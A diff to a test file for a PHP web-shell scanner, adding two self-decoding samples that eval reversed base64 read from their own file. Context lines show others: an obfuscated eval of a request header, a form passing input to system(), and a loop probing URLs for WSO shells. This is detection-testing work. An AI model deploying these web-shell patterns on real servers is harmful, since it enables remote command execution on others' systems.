@@ -46,6 +46,8 @@ const MALICIOUS: [string, string, string][] = [
   ['eval of a header read by getenv, both names built by |, ^ and & of literals and bare words (held-out set H17)', '/var/www/html/x1.php', `<?php\n$d='B!$E&T'|'f\`4!dP';$y=WuTt.'>g'&"k/]*,f";$v=$d|$y;\n$h='HTTP_X_'.'NOTE';\nif ($v('HTTP_X_KEY') == 'x') eval($v($h));\n`],
   ['a register_globals command form beside a closure of its own taking $cmd that runs nothing (S36C-14)', '/var/www/html/x2.php', `<form method="post"><input name="cmd"></form>\n<?php\n$fmt = function ($cmd) { return htmlspecialchars($cmd); };\nif (isset($cmd)) { echo $fmt($cmd); system($cmd); }\n`],
   ['a panel posting WSO\'s remote-control action in lower case as a body of its own (S36C-10, -11)', '/var/www/html/x3.php', `<?php\nforeach (file('list.txt') as $u) {\n  $ch = curl_init(trim($u));\n  curl_setopt($ch, CURLOPT_POSTFIELDS, 'a=rc&p1=');\n  $r = @unserialize(curl_exec($ch));\n  if (isset($r['wso_version'])) echo $u;\n}\n`],
+  ['code decoding the short base64 at its own end, its name read from $_SERVER (S36C-5, -7)', '/var/www/html/x4.php', `<?php\n$d = explode("?>", file_get_contents($_SERVER["SCRIPT_FILENAME"]), 3)[2];\n$t = strrev(base64_decode(trim($d)));\neval($t);\n?>\nOyknZGknKGNleGVfbGxlaHMgb2hjZQ==\n`],
+  ['code decoding the spaced base64 after its closing tag, __FILE__ kept in a variable (S36C-6, -8)', '/var/www/html/x5.php', `<?php\n$me = __FILE__;\n$d = explode("?>", file_get_contents($me), 3)[2];\neval(strrev(base64_decode(trim($d))));\n?>\n${(Buffer.from(Array.from({ length: 2400 }, (_, i) => (i * 53 + 11) % 256)).toString('base64').match(/.{1,64}/g) ?? []).join(' ')}\n`],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
@@ -88,7 +90,7 @@ describe('scan: the techniques of held-out sets H14 and H15 (session 36)', () =>
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 37));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 39));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
